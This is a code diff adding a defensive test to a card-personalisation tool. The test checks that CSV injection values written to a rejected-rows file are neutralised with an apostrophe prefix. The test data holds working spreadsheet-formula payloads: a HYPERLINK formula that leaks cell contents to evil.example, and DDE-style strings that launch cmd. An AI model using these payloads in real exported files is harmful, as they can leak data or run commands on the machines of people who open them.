@@ -84,3 +84,18 @@ def test_a_broken_pki_folder_stops_before_any_row(tmp_path: Path, capsys: pytest
     assert status == 2
     assert capsys.readouterr().err.startswith("cardtool perso: ")
     assert not (tmp_path / "out").exists()
+
+
+def test_rejected_csv_neutralises_spreadsheet_formulas(pki: Path, tmp_path: Path) -> None:
+    shutil.copytree(SAMPLES / "portraits", tmp_path / "portraits")
+    rows = list(csv.DictReader((SAMPLES / "residents.csv").open(encoding="utf-8")))
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]
+    with (tmp_path / "in.csv").open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(dict(rows[0], id_number=value) for value in hostile)
+    personalize_batch(tmp_path / "in.csv", SignerSource(pki), tmp_path / "out")
+    rejected = list(csv.DictReader((tmp_path / "out" / REJECTED).open(encoding="utf-8")))
+    assert [row["id_number"] for row in rejected] == ["'" + value for value in hostile]
+    cells = [cell for row in rejected for cell in row.values()]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
